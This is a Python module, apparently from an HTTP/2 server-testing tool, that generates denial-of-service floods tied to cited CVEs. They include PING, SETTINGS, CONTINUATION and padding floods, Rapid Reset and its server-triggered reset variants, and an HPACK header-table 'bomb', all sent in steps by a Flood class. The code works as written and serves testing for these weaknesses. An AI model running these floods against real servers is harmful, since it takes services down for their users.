"""Frames that cost the receiver more than the sender: each a function that
gives the i-th useless piece of the flood as bytes.

What they are sent on: for a client a connection without streams, for an origin
a stream that waits for its answer (RFC 9113 10.5; CVE-2019-9511 to 9518,
CVE-2023-44487, CVE-2024-27316, CVE-2025-8671).
"""
import struct

from . import h2wire as w


def ping(i, stream):
    return w.frame(w.PING, 0, 0, b"%08d" % i)


def ping_acks(i, stream):
    return w.frame(w.PING, w.ACK, 0, b"%08d" % i)


def settings(i, stream):
    return w.frame(w.SETTINGS, 0, 0, w.settings({w.MAX_HEADER_LIST_SIZE: 65536 + i}))


def empty_settings(i, stream):
    return w.frame(w.SETTINGS, 0, 0)


def empty_data(i, stream):
    return w.frame(w.DATA, 0, stream)


def padding(i, stream):
    return w.frame(w.DATA, w.PADDED, stream, b"\xff" + b"\0" * 255)


def priority(i, stream):
    return w.frame(w.PRIORITY, 0, 1000001 + 2 * (i % 100), b"\0\0\0\3" + bytes([i % 256]))


def window(i, stream):
    return w.frame(w.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def unknown(i, stream):
    return w.frame(0x42, 0, 0, b"x")


def goaway(i, stream):
    return w.frame(w.GOAWAY, 0, 0, struct.pack(">II", 0x7fffffff, 0))


def continuation(i, stream):
    """A head that never ends, of nothing at all."""
    kind = w.HEADERS if i == 0 else w.CONTINUATION
    return w.frame(kind, 0, stream)


def interims(i, stream):
    return w.head_frames(stream, w.block([(":status", "103"), ("x", str(i))]), False)


ANY = {"ping": ping, "ping_acks": ping_acks, "settings": settings,
       "empty_settings": empty_settings, "priority": priority, "window": window,
       "unknown": unknown}
OF_ORIGINS = {**ANY, "goaway": goaway, "interims": interims,
              "empty_data": empty_data, "padding": padding, "continuation": continuation}


def opening(name, stream, end, method="GET", *fields):
    return w.head_frames(stream, w.block([
        (":method", method), (":scheme", "https"), (":authority", name), (":path", "/flood"),
        *fields]), end)


# Each of these opens a stream and makes it end badly; the last six are the ways
# to have the server send the reset ("MadeYouReset").


def rapid_reset(name, s):
    return opening(name, s, True) + w.frame(w.RST_STREAM, 0, s, struct.pack(">I", w.CANCEL))


def window_of_0(name, s):
    return opening(name, s, True) + w.frame(w.WINDOW_UPDATE, 0, s, b"\0\0\0\0")


def window_overflow(name, s):
    return opening(name, s, True) + w.frame(w.WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff")


def data_after_end(name, s):
    return opening(name, s, True) + w.frame(w.DATA, 0, s, b"x")


def head_after_end(name, s):
    return opening(name, s, True) + opening(name, s, True)


def short_priority(name, s):
    return opening(name, s, True) + w.frame(w.PRIORITY, 0, s, b"\0\0\0\0")


def own_parent(name, s):
    return opening(name, s, True) + w.frame(w.PRIORITY, 0, s, struct.pack(">IB", s, 16))


def too_much_body(name, s):
    return (opening(name, s, False, "POST", ("content-length", "1"))
            + w.frame(w.DATA, 0, s, b"xx"))


RESETS = {"rapid_reset": rapid_reset, "window_of_0": window_of_0,
          "window_overflow": window_overflow, "data_after_end": data_after_end,
          "head_after_end": head_after_end, "short_priority": short_priority,
          "own_parent": own_parent, "too_much_body": too_much_body}

STEP = 50


def close_of(kind):
    """What asks for an answer behind some pieces.  All of it goes out in one
    write: who hangs up at one of them has read them all, and what it said last
    is not lost in a reset."""
    if kind == "continuation":  # nothing else may come within a head: STEP is cut
        return b""
    return w.frame(w.PING, 0, 0, b"flooding")


def pongs_of(kind):
    """How many PINGs come back when all of a step has been read."""
    if kind == "continuation":
        return float("inf")
    return STEP + 1 if kind == "ping" else 1


class Flood:
    """A client's flood by its name: step() sends STEP pieces and lets the
    server answer to them; over: it has hung up."""

    NAMES = sorted([*ANY, *RESETS, "empty_data", "padding", "continuation"])

    def __init__(self, kind, conn, name):
        self.kind, self.conn, self.name, self.sent, self.stream = kind, conn, name, 0, 1
        if kind in ("empty_data", "padding"):
            conn.raw(opening(name, 1, False, "POST"))

    def _piece(self):
        if self.kind in RESETS:
            piece = RESETS[self.kind](self.name, self.stream)
            self.stream += 2
            return piece
        return OF_ORIGINS[self.kind](self.sent, 1)

    def step(self):
        data = b""
        for _ in range(STEP):
            data += self._piece()
            self.sent += 1
        pongs = self.conn.seen["pong"] + pongs_of(self.kind)
        try:
            self.conn.raw(data + close_of(self.kind))
            self.conn.wait("an answer to the flood",
                           lambda: self.over or self.conn.seen["pong"] >= pongs)
        except OSError:
            self.conn.wait_closed()

    @property
    def over(self):
        return self.conn.ended or self.conn.goaway is not None


def bomb(name, stream):
    """A field of 4,000 bytes put into the table once, and named 12,000 times."""
    block = w.block([(":method", "GET"), (":scheme", "https"), (":authority", name),
                     (":path", "/bomb"), ("x", "y" * 4000, 0x40)])
    return w.head_frames(stream, block + b"\xbe" * 12000, True)
